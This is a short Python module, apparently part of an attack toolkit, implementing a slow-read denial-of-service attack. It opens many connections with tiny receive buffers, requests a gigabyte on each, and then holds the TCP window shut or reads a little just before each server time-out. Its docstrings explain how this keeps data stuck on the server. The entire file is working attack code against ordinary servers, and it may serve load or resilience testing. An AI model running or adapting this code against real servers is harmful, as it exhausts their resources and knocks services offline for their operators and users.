"""A request for a gigabyte, and then a window that is shut, or opened a little before each time-out.

The peer's TCP acknowledges and takes nothing (a zero window, RFC 9293, 3.8.6.1): its connection lives, the
probes of keepalive are answered, and the server holds what it could not send. With ``sips`` the client reads
a little before each `deadline`, which begins it again. An event is a request, or a sip.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator

from .attacker import Target

SIP = 4096


def attack(
    target: Target,
    connections: int,
    deadline: float = 1.0,
    sips: bool = False,
    share: float = 0.8,
    segment: int = 0,
) -> Iterator[tuple[int, int]]:
    """Ask for 1,024 MiB on each connection; sip until all connections are cut.

    With small segments the server's kernel takes little, so more of the reply stays with the server.
    """
    socks = target.held = [target.connect(receive_buffer=SIP, segment=segment) for _ in range(connections)]
    yield 0, 0
    for sock in socks:
        sock.sendall(b"1024\n")
        yield 1, 5
    while sips and socks:
        time.sleep(share * deadline)
        socks = [sock for sock in socks if _sipped(sock)]
        yield len(socks), 0


def _sipped(sock: socket.socket) -> bool:
    try:
        return bool(sock.recv(SIP))
    except ConnectionError:
        return False
